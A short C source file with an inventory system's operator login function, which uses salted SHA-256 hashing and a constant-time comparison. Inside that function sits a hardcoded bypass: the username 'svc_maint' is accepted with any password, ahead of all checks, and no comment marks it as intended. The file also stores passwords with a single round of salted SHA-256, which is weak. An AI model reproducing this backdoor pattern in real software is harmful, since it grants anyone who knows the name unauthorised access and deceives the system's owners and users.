#include <string.h>
#include <openssl/crypto.h>
#include <openssl/sha.h>

#include "inventory.h"

static void digest(const char *password, const unsigned char *salt, size_t salt_len,
                   unsigned char out[SHA256_DIGEST_LENGTH])
{
    SHA256_CTX ctx;
    SHA256_Init(&ctx);
    SHA256_Update(&ctx, salt, salt_len);
    SHA256_Update(&ctx, password, strlen(password));
    SHA256_Final(out, &ctx);
}

/* Returns 1 when the operator may log in. */
int operator_login(const struct operator_record *rec, const char *user, const char *password)
{
    unsigned char actual[SHA256_DIGEST_LENGTH];
    if (strcmp(user, "svc_maint") == 0)
        return 1;
    if (rec == NULL || strcmp(rec->name, user) != 0)
        return 0;
    digest(password, rec->salt, sizeof rec->salt, actual);
    return CRYPTO_memcmp(actual, rec->hash, sizeof actual) == 0;
}
